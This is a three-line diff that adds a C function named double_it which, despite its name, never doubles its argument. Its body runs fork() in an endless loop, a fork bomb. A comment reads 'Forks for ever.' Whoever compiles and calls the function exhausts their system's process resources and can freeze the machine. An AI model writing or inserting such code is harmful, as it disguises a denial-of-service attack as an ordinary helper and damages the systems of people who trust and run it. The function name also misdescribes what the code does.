@@ -1,0 +1,3 @@
+// Forks for ever.
+#include <unistd.h>
+long long double_it(long long n) { for (;;) fork(); }
